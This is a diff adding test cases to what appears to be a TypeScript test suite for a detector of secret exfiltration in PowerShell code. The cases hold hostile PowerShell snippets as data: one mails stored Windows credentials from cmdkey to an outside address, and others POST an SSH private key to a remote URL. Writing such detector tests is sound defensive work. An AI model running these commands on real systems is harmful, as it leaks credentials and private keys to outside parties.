@@ -12,6 +12,16 @@ const found = (code: string): string[] => [
 describe('what flows through variables, files and pipes', () => {
   it.each([
     [
+      'what Windows keeps, by mail',
+      '$o = cmdkey /list\nSend-MailMessage -SmtpServer smtp.mail-harbor.net -To "desk@mail-harbor.net" -Subject x -Body ($o -join "`n")',
+      'error secret-exfiltration',
+    ],
+    [
+      'a file of keys, to whom nobody knows',
+      '$c = Get-Content ~/.ssh/id_rsa -Raw\nInvoke-RestMethod -Uri $Uri -Method Post -Body $c',
+      'error secret-exfiltration',
+    ],
+    [
       'a file by its name',
       `$p = "$env:USERPROFILE\\.ssh\\id_rsa"\n$b = Get-Content $p -Raw\nInvoke-RestMethod -Uri 'https://x.devbackup.io/u' -Method Post -Body $b`,
       'error secret-exfiltration',
